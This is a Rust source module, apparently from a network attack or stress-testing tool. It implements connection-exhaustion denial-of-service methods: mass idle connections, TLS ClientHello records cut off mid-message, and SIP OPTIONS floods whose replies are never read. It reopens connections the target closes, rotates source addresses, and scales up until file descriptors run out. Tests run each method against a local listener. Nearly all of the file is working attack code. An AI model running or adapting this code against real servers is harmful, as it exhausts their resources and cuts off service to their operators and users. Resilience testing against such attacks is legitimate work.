//! Connections that are held and not used: idle ones, TLS greetings that break off, answers that
//! nobody reads.

use crate::sockets::{Numbers, Pace, SocketAttack};
use driver::{SocketOptions, tcp};
use std::collections::VecDeque;
use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// Connections that are held at most: what one address has ports for.
const HELD_MAX: usize = 28_000;
/// Connections whose answers are not read.
const READERS_MAX: usize = 64;
/// The receive buffer of who does not read.
const RECEIVE_BYTES: usize = 4_096;
/// Time for the octets that are said.
const PATIENCE: Duration = Duration::from_millis(200);

/// What an idle connection says.
pub(crate) const SILENCE: &[u8] = b"";
/// The first octets of a TLS record with a ClientHello of 508 octets (RFC 8446 §4.1.2, §5.1): the
/// record, the handshake message, the version; its random number does not follow.
pub(crate) const HALF_GREETING: &[u8] =
    &[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03];

/// Opens connections, says `greeting` on each, and holds them; those that the target closes are
/// opened again.
pub(crate) fn hold(attack: &SocketAttack, pace: &mut Pace, greeting: &[u8]) -> anyhow::Result<()> {
    let mut random = Numbers::new(1);
    let mut held: VecDeque<TcpStream> = VecDeque::new();
    let mut is_full = false;
    while let Some(due) = pace.due() {
        for _ in 0..due {
            // Every turn looks at two old ones, so that all are looked at.
            for _ in 0..2 {
                let Some(oldest) = held.pop_front() else { break };
                if stands(&oldest) {
                    held.push_back(oldest);
                } else {
                    is_full = false;
                }
            }
            if is_full || held.len() >= HELD_MAX {
                continue;
            }
            match open(attack, &mut random, 0).and_then(|stream| say(stream, greeting)) {
                Ok(stream) => {
                    pace.sent(greeting.len());
                    held.push_back(stream);
                }
                // Out of descriptors: the attack is as large as this machine lets it be.
                Err(error) => is_full = error.raw_os_error().is_some_and(|code| code == EMFILE),
            }
        }
    }
    Ok(())
}

/// Too many open files (errno(3)).
const EMFILE: i32 = 24;

fn open(attack: &SocketAttack, random: &mut Numbers, receive: usize) -> io::Result<TcpStream> {
    let source = SocketAddr::from((attack.sources.pick(random.next()), 0));
    let options = SocketOptions { receive_buffer_bytes: receive, ..SocketOptions::default() };
    tcp::connect(Some(source), attack.target.into(), &options, |_| Ok(()))
}

/// Writes once the connection stands.
fn say(mut stream: TcpStream, greeting: &[u8]) -> io::Result<TcpStream> {
    if !greeting.is_empty() {
        stream.set_nonblocking(false)?;
        stream.set_write_timeout(Some(PATIENCE))?;
        stream.write_all(greeting)?;
        stream.set_nonblocking(true)?;
    }
    Ok(stream)
}

fn stands(mut stream: &TcpStream) -> bool {
    match stream.read(&mut [0; 64]) {
        Ok(length) => length > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    }
}

/// Asks over and over and never reads an answer.
pub(crate) fn never_read(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let mut random = Numbers::new(2);
    let mut streams: VecDeque<TcpStream> = VecDeque::new();
    let mut number = 0;
    while let Some(due) = pace.due() {
        for _ in 0..due {
            let mut stream = match streams.pop_front() {
                Some(stream) if streams.len() + 1 >= READERS_MAX => stream,
                other => {
                    streams.extend(other);
                    let opened = open(attack, &mut random, RECEIVE_BYTES);
                    let Ok(stream) = opened.and_then(|stream| say(stream, b"\r\n\r\n")) else {
                        continue;
                    };
                    stream
                }
            };
            number += 1;
            let question = question(attack, number);
            match stream.write(question.as_bytes()) {
                Ok(octets) => {
                    pace.sent(octets);
                    // A cut message would be another attack.
                    if octets == question.len() {
                        streams.push_back(stream);
                    }
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => streams.push_back(stream),
                Err(_) => {} // closed: another one is opened
            }
        }
    }
    Ok(())
}

fn question(attack: &SocketAttack, number: u64) -> String {
    let target = attack.target;
    format!(
        "OPTIONS sip:{target} SIP/2.0\r\n\
        Via: SIP/2.0/TCP 127.0.0.1:5060;branch=z9hG4bKslow{number}\r\nMax-Forwards: 70\r\n\
        From: <sip:slow@{target}>;tag=slow\r\nTo: <sip:{target}>\r\nCall-ID: slow{number}\r\n\
        CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sockets::tests::attack;
    use crate::{SocketKind, run_by_sockets};
    use std::net::TcpListener;

    /// What each connection of an attack says to somebody who accepts all and says nothing.
    fn heard(kind: SocketKind) -> (u64, Vec<Vec<u8>>) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let SocketAddr::V4(target) = listener.local_addr().unwrap() else {
            panic!("an address of version 4")
        };
        let attacker = std::thread::spawn(move || run_by_sockets(&attack(kind, target)).unwrap());
        let mut streams = Vec::new();
        listener.set_nonblocking(true).unwrap();
        loop {
            let is_over = attacker.is_finished();
            match listener.accept() {
                Ok((stream, from)) => {
                    assert!(from.ip().to_string().starts_with("127.66.0."), "{from}");
                    stream.set_nonblocking(false).unwrap();
                    streams.push(stream);
                }
                Err(_) if is_over => break,
                Err(_) => std::thread::sleep(Duration::from_millis(1)),
            }
        }
        let report = attacker.join().unwrap();
        let said = |mut stream: TcpStream| {
            let mut all = Vec::new();
            let _ = stream.read_to_end(&mut all);
            all
        };
        (report.frames, streams.into_iter().map(said).collect())
    }

    #[test]
    fn idle_connections_say_nothing_and_are_many() {
        let (opened, heard) = heard(SocketKind::Idle);
        assert!(opened > 0 && heard.len() as u64 >= opened, "{opened}, {}", heard.len());
        assert!(heard.iter().all(Vec::is_empty));
    }

    #[test]
    fn a_tls_greeting_breaks_off_within_its_record() {
        let (_, heard) = heard(SocketKind::HalfTls);
        let greeting = heard.first().unwrap();
        let length = usize::from(u16::from_be_bytes([greeting[3], greeting[4]]));
        assert_eq!((greeting[0], greeting[5]), (22, 1), "a handshake record, a ClientHello");
        assert!(heard.iter().all(|all| all == greeting && all.len() < 5 + length));
    }

    #[test]
    fn who_does_not_read_asks_whole_questions() {
        let (_, heard) = heard(SocketKind::SlowReading);
        let text = String::from_utf8(heard.concat()).unwrap();
        assert!(heard.len() <= READERS_MAX && text.contains("OPTIONS sip:127.0.0.1"));
        let counts =
            ["CSeq: 1 OPTIONS", "Content-Length: 0\r\n\r\n"].map(|it| text.matches(it).count());
        assert_eq!(counts[0], counts[1]);
    }
}
